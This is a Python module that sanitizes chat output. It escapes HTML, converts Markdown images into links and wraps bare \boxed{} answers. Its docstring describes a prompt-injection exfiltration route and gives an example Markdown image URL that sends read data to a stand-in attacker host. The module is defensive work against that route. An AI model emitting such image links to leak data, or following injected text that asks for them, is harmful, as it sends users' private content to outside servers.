"""How model and user text is shown in the chat (pure).

Text is shown as text: HTML outside code is escaped, so neither the model nor a
user can put markup or script on anyone's page. Markdown images become links: an
image would be fetched by every viewer's browser, so a model (or a document that
prompt-injected it) could send what it read to any server by writing
`![x](https://attacker/?data=...)`. Bare `\\boxed{}` answers (R1
often writes them outside math delimiters) are wrapped so that they render.
"""

from __future__ import annotations

import re

# Code and math are shown verbatim or typeset: nothing inside them is escaped or wrapped.
_PROTECTED = re.compile(r"(```.*?(?:```|\Z)|`[^`\n]*`|\$\$.*?\$\$|\\\[.*?\\\]|\\\(.*?\\\)|\$[^$\n]+\$)", re.DOTALL)
_BOXED = "\\boxed{"
# `![alt](url)` and `![alt][ref]`: the `!` makes Markdown fetch and show the target.
_IMAGE = re.compile(r"!\[([^\]\n]*)\](?=[(\[])")


def escape_html(text: str) -> str:
    """Escape `&`, `<` and `>`, so that markup shows as the text it is."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _balanced_end(text: str, start: int) -> int:
    """Index just past the brace that closes the one opened before `start`, or -1."""
    depth = 1
    for index in range(start, len(text)):
        char = text[index]
        if char == "{":
            depth += 1
        elif char == "}":
            depth -= 1
            if depth == 0:
                return index + 1
    return -1


def wrap_boxed(text: str) -> str:
    """Put `$...$` around each `\\boxed{...}` in plain text (outside math and code)."""
    out: list[str] = []
    cursor = 0
    while (found := text.find(_BOXED, cursor)) >= 0:
        end = _balanced_end(text, found + len(_BOXED))
        if end < 0:
            break
        out.append(text[cursor:found])
        out.append(f"${text[found:end]}$")
        cursor = end
    out.append(text[cursor:])
    return "".join(out)


def images_as_links(text: str) -> str:
    """Markdown images in plain text, turned into links to what they show."""
    return _IMAGE.sub(lambda found: f"[🖼 {found.group(1).strip() or 'image'}]", text)


def display(text: str) -> str:
    """Model or user text, ready for the chat's Markdown renderer."""
    parts = _PROTECTED.split(text)
    for index in range(0, len(parts), 2):  # even parts are plain text
        parts[index] = wrap_boxed(images_as_links(escape_html(parts[index])))
    return "".join(parts).strip()
